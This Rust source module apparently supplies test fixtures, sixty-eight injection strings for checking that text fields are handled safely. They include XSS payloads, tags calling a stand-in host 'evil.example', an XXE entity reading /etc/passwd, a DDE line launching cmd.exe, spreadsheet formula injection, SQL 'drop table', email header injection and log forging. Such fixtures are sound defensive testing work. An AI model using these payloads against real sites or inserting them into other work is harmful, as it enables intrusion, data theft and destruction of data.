//! Texts that would do something on a page, in a file, in a log or in a database that takes
//! them for more than text.

/// Sixty of them, each of which any field of one line may hold.
pub(crate) const STRINGS: [&str; 60] = [
    // Elements that run something, also out of the element they were written into.
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>alert(1)//<</script>",
    r#""><script>window.hacked=1</script>"#,
    "'><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</title></style></script><script>window.hacked=1</script>",
    "</option></select><img src=x onerror=window.hacked=1>",
    "</blockquote></li></ul><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<img/src=`x`onerror=alert(1)>",
    r#"<IMG """><SCRIPT>alert(1)</SCRIPT>">"#,
    "<body onload=window.hacked=1>",
    r#"<iframe srcdoc="<script>alert(1)</script>">"#,
    r#"<object data="javascript:alert(1)">"#,
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=window.hacked=1>",
    "<template><script>alert(1)</script></template>",
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
    r#"<!--<img src="--><img src=x onerror=alert(1)>"#,
    // The same in a picture and in a formula.
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    // Elements that lead away or change the page.
    r#"<a href=" &#14; javascript:alert(1)">bấm</a>"#,
    "<a href=javascript&colon;window.hacked=1>bấm</a>",
    r#"<form action="https://evil.example"><button>Gửi</button></form>"#,
    r#"<base href="https://evil.example/">"#,
    r#"<meta http-equiv="refresh" content="0;url=https://evil.example">"#,
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    // Attributes, and what stands in one.
    r#"" onmouseover="window.hacked=1"#,
    "' autofocus onfocus='window.hacked=1",
    "` onclick=alert(1)",
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "x;background:url(//evil.example/x);width:expression(alert(1))",
    // What somebody may have encoded or may decode.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E%00",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "\u{202e}gnp.exe\u{2066}\u{200b}\u{200d}<b>",
    // Templates of pages and of texts.
    "{{ 7 * 7 }}",
    r#"{% include "field.html" %}"#,
    r#"{ $rate } { -brand } {"x"}"#,
    "{{#each x}}{{{this}}}{{/each}} ${7*7} #{7*7} <%= 7*7 %>",
    // Documents.
    "<![CDATA[<script>alert(1)</script>]]>",
    r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;"#,
    r"</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText>",
    ") Tj ET /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    // Databases, and what a spreadsheet takes for a formula.
    "'; drop table comments; --",
    r#"=HYPERLINK("https://evil.example","bấm")"#,
    "+1+cmd|'/c calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "＝1+1",
    r#"","",=1+1"#,
];

/// Ones with line ends and characters that are no text; a field may leave those out.
pub(crate) const ROUGH: [&str; 8] = [
    "\t=1+1",
    "\r=1+1",
    "a,\"b\"\r\n=1+1",
    "Lan\r\nBcc: x@evil.example\r\n\r\n<script>window.hacked=1</script>",
    "Lan\n2026-10-15T03:00:00Z ERROR hailong: nothing of this happened",
    "＋1\u{0b}－1\u{0c}＠SUM(1)",
    "\u{1b}[31m\u{1b}]0;x\u{7}%s%n../../etc/passwd",
    "Zalgo\u{301}\u{302}\u{303}\u{fffe}\u{0}<b>",
];
